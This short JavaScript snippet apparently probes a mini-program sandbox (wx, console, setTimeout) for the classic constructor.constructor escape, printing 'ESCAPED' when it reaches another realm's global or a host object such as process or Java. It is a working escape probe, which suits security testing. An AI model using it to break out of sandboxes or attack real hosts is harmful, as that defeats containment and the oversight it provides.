// Climbs from the host's functions over constructor.constructor to the host's Function
// Source: the classic escape from sandboxes in one realm (Node vm, AngularJS expressions)
const starts = [wx, wx.invokeNativePlugin, console, console.log, setTimeout, globalThis];
for (const start of starts) {
  try {
    const g = start.constructor.constructor('return this')();
    if (g !== globalThis) console.log('ESCAPED: another global object');
    if (g.process || g.Java || g.Packages) console.log('ESCAPED: a global of the host');
  } catch (e) {}
}
